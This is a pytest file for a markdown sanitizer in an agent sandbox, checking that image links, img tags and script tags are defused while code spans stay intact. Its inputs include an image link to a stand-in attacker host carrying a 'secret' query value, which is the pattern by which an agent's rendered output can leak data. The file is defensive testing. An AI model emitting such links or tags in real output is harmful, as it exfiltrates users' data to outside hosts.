from __future__ import annotations

import pytest

from kernel_sandbox.agents.markdown import safe_markdown


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("**7** of 9, a < b, 3 > 2", "**7** of 9, a < b, 3 > 2"),
        ("![x](https://evil.example/?d=secret)", "[x](https://evil.example/?d=secret)"),
        ("<img src=https://evil.example>", "&lt;img src=https://evil.example>"),
        ("<script>x</script>", "&lt;script>x&lt;/script>"),
        ("see <https://example.org>", "see <https://example.org>"),
        ("`<b>` and ```\n![x](y) <i>\n```", "`<b>` and ```\n![x](y) <i>\n```"),
        ("![ref][1]\n\n[1]: https://evil.example", "[ref][1]\n\n[1]: https://evil.example"),
    ],
)
def test_markdown_fetches_and_runs_nothing(text: str, safe: str) -> None:
    assert safe_markdown(text) == safe
